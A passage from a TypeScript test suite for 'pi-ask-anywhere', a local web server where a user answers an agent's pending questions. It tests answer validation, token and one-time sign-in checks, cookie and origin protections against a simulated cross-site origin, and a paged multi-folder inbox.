			createPendingFile({ request: DATABASE_ASK, sessionId: "s", toolCallId: "call-open", now: new Date() }),
		);
		const cookie = await signIn(base);
		const page = await livePage(base, cookie);
		await until(() => page.states.at(-1)?.pending[0]);
		const asked = bridge(`ws://127.0.0.1:${web.port}/agent`).ask(DATABASE_ASK);
		const ask = await until(() => page.states.at(-1)?.asks[0]);
		const answers = [{ chosen: ["SQLite"], typed: "", note: "" }];
		expect((await post(base, "/api/answer", cookie, { id: ask.id, answers })).status).toBe(200);
		expect(await asked).toMatchObject({ kind: "answered" });
		// This test's "pi" never removes the file: it stays hidden, and cannot be answered a second time.
		await new Promise((resolve) => setTimeout(resolve, 200));
		expect(page.states.at(-1)).toMatchObject({ asks: [], pending: [] });
		const again = { name: "pending-questions.json", toolCallId: "call-open", answers, confirmed: true };
		expect((await post(base, "/api/pending/answer", cookie, again)).status).toBe(409);
		// A pi that died before removing it left the questions unanswered there: after a while they show again.
		clock.now += 15_001;
		await until(() => (page.states.at(-1)?.pending.length === 1 ? true : undefined));
	});

	it("refuses answers that tick what is not an option, or give nothing, without touching the question", async () => {
		const { web, base } = await server();
		const cookie = await signIn(base);
		const page = await livePage(base, cookie);
		const asked = bridge(`ws://127.0.0.1:${web.port}/agent`).ask(DATABASE_ASK);
		const ask = await until(() => page.states.at(-1)?.asks[0]);
		for (const answers of [
			[{ chosen: ["MySQL"], typed: "", note: "" }],
			[null],
			[],
			[{ chosen: ["Redis", "SQLite"] }],
		]) {
			expect((await post(base, "/api/answer", cookie, { id: ask.id, answers })).status).toBe(400);
		}
		expect((await post(base, "/api/answer", cookie, { id: ask.id, dismiss: true })).status).toBe(200);
		expect(await asked).toEqual({ kind: "cancelled" });
	});

	it("requires PI_ASK_USER_REMOTE_TOKEN from agents when set", async () => {
		const { web } = await server({ agentToken: "agent-secret" });
		const url = `ws://127.0.0.1:${web.port}/agent`;
		expect(await bridge(url).ask(DATABASE_ASK)).toMatchObject({
			kind: "unavailable",
			reason: expect.stringContaining("401"),
		});
		expect(await bridge(url, "wrong").ask(DATABASE_ASK)).toMatchObject({ kind: "unavailable" });
		const allowed = bridge(url, "agent-secret").ask(DATABASE_ASK, AbortSignal.timeout(300));
		expect(await allowed).toEqual({ kind: "interrupted" });
	});

	it("refuses an agent connection from a browser (any Origin), so no web site can put questions on the page", async () => {
		const { web } = await server();
		const status = await new Promise<string>((resolve) => {
			const socket = new WebSocket(`ws://127.0.0.1:${web.port}/agent`, { headers: { origin: "https://evil.example" } });
			socket.on("unexpected-response", (_request, response) => resolve(String(response.statusCode)));
			socket.on("open", () => resolve("open"));
		});
		expect(status).toBe("403");
	});

	it("a sign-in address works once and for 10 minutes; the secret behind the cookie never signs in from an address", async () => {
		let clock = 1_000_000;
		const printed: string[] = [];
		const { web, base } = await server({
			now: () => clock,
			onSignInCode: (code, why) => printed.push(`${why}:${code}`),
		});
		const signInWith = (code: string) => fetch(`${base}/?token=${code}`, { redirect: "manual" });
		expect((await signInWith(PAGE_TOKEN)).status).toBe(401);
		const first = web.signInCode();
		expect((await signInWith(first)).status).toBe(303);
		const spent = await signInWith(first);
		expect(spent.status).toBe(401);
		expect(await spent.text()).toMatch(/already used or has expired/);
		const second = web.signInCode();
		expect(printed).toEqual([`used:${second}`]);
		clock += 10 * 60_000;
		expect((await signInWith(second)).status).toBe(401);
		const third = web.signInCode();
		expect(printed).toEqual([`used:${second}`, `expired:${third}`]);
		expect((await signInWith(third)).status).toBe(303);
	});

	it("needs the cookie for the page, the API and the live channel, and refuses cross-origin writes", async () => {
		const { base } = await server();
		expect((await fetch(`${base}/`)).status).toBe(401);
		// Said in the browser's language, as the page would be.
		const german = await fetch(`${base}/`, { headers: { "accept-language": "de" } });
		expect(await german.text()).toMatch(/^401: Öffne diese Seite mit der Adresse/);
		expect((await fetch(`${base}/api/state`)).status).toBe(401);
		expect((await fetch(`${base}/?token=${PAGE_TOKEN}x`, { redirect: "manual" })).status).toBe(401);
		const cookie = await signIn(base);
		expect((await fetch(`${base}/`, { headers: { cookie } })).status).toBe(200);
		const page = await fetch(`${base}/`, { headers: { cookie } });
		expect(page.headers.get("content-security-policy")).toContain("script-src 'self'");
		expect(page.headers.get("referrer-policy")).toBe("no-referrer");
		expect((await post(base, "/api/answer", cookie, { id: "1", dismiss: true }, "http://evil.example")).status).toBe(
			403,
		);
		const refused = await new Promise<string>((resolve) => {
			const socket = new WebSocket(`${base.replace("http", "ws")}/live`, { headers: { origin: base } });
			socket.on("unexpected-response", (_request, response) => resolve(String(response.statusCode)));
			socket.on("open", () => resolve("open"));
		});
		expect(refused).toBe("401");
		const crossSite = await new Promise<string>((resolve) => {
			const socket = new WebSocket(`${base.replace("http", "ws")}/live`, {
				headers: { cookie, origin: "http://evil.example" },
			});
			socket.on("unexpected-response", (_request, response) => resolve(String(response.statusCode)));
			socket.on("open", () => resolve("open"));
		});
		expect(crossSite).toBe("403");
	});
});

describe("pi-ask-anywhere web --all: every folder with asks waiting in this user's fact log", () => {
	/** A server over the folders of a real fact log; each folder gets its own trust verdict. */
	async function inbox(pageSize?: number) {
		const agentDir = mkdtempSync(join(tmpdir(), "pi-ask-anywhere-inbox-"));
		const [one, two, three] = ["one", "two", "three"].map((name) => {
			const folder = join(agentDir, name);
			mkdirSync(folder);
			return folder;
		}) as [string, string, string];
		const facts = factLog(agentDir);
		const judged: string[] = [];
		const web = await startWebServer({
			host: "127.0.0.1",
			port: 0,
			cwd: agentDir,
			all: inboxFolders(facts),
			...(pageSize === undefined ? {} : { pageSize }),
			pageToken: PAGE_TOKEN,
			assets: new Map([["/", { type: "text/html", body: readFileSync("src/web/page/index.html") }]]),
			judge: (_file, folder) => {
				judged.push(folder);
				return { trusted: true };
			},
			given: givenRecord(agentDir, facts),
		});
		cleanups.push(async () => {
			await web.close();
			rmSync(agentDir, { recursive: true, force: true });
		});
		const base = `http://127.0.0.1:${web.port}`;
		servers.set(base, web);
		const ask = (folder: string, toolCallId: string, at: number) => {
			facts.append({ fact: "saved", at, sessionId: "s", toolCallId, project: folder });
			return savePendingFile(
				folder,
				createPendingFile({ request: DATABASE_ASK, sessionId: "s", toolCallId, now: new Date(at) }),
			);
		};
		return { base, facts, one, two, three, ask, judged };
	}

	it("lists the pending files of every folder with a waiting ask, newest project first, and answers each in its own folder", async () => {
		const { base, facts, one, two, three, ask, judged } = await inbox();
		const path1 = ask(one, "call-1", 1_000);
		const path2 = ask(two, "call-2", 2_000);
		// A folder whose ask was decided is not served: its file is not listed.
		ask(three, "call-3", 500);
		facts.append({
			fact: "decided",
			at: 600,
			sessionId: "s",
			toolCallId: "call-3",
			project: three,
			by: "tui",
			outcome: "answered",
			questions: [{ question: "Which database?" }],
			answers: ["Redis"],
		});
		const cookie = await signIn(base);
		const page = await livePage(base, cookie);
		const shown = await until(() => {
			const pending = page.states.at(-1)?.pending ?? [];
			return pending.length === 2 ? pending : undefined;
		});
		// Both files are named pending-questions.json: the folder tells them apart.
		expect(shown.map((view) => [view.folder, view.name])).toEqual([
			[two, "pending-questions.json"],
			[one, "pending-questions.json"],
		]);
		const answer = (folder: string, toolCallId: string) => ({
			folder,
			name: "pending-questions.json",
			toolCallId,
			answers: [{ chosen: ["SQLite"], typed: "", note: "" }],
		});
		// Another folder's name for the same call is no file here; a folder not served is refused.
		expect((await post(base, "/api/pending/answer", cookie, answer(one, "call-2"))).status).toBe(409);
		expect((await post(base, "/api/pending/answer", cookie, answer(three, "call-3"))).status).toBe(404);
		expect((await post(base, "/api/pending/answer", cookie, { ...answer(two, "call-2"), folder: 7 })).status).toBe(404);
		const written = await post(base, "/api/pending/answer", cookie, answer(two, "call-2"));
		expect(written.status).toBe(200);
		const answers = (path: string) =>
			(JSON.parse(readFileSync(path, "utf8")) as { questions: { answer: unknown }[] }).questions.map((q) => q.answer);
		expect(answers(path2)).toEqual(["SQLite"]);
		expect(answers(path1)).toEqual([null]);
		expect(judged).toContain(two);
		expect(judged).not.toContain(three);
		// A new ask saved in a third folder: the log changed, the folder is served, its file is on the open page.
		const path3 = ask(three, "call-4", 3_000);
		const third = await until(() => page.states.at(-1)?.pending.find((view) => view.folder === three));
		expect(third.toolCallId).toBe("call-4");
		expect(path3).toContain(three);
	});

	it("sends a page so many cards at first, and more when asked", async () => {
		const { base, one, two, ask } = await inbox(1);
		ask(one, "call-1", 1_000);
		ask(two, "call-2", 2_000);
		const cookie = await signIn(base);
		const page = await livePage(base, cookie);
		const first = await until(() => page.states.at(-1));
		await new Promise((resolve) => setTimeout(resolve, 200));
		expect(page.states.at(-1)?.pending.map((view) => view.folder)).toEqual([two]);
		expect(page.states.at(-1)?.more).toBe(1);
		expect(first).toBeDefined();
		expect((await post(base, "/api/more", cookie, {})).status).toBe(200);
		const both = await until(() => (page.states.at(-1)?.pending.length === 2 ? page.states.at(-1) : undefined));
		expect(both.pending.map((view) => view.folder)).toEqual([two, one]);
		expect(both.more ?? 0).toBe(0);
	});
});
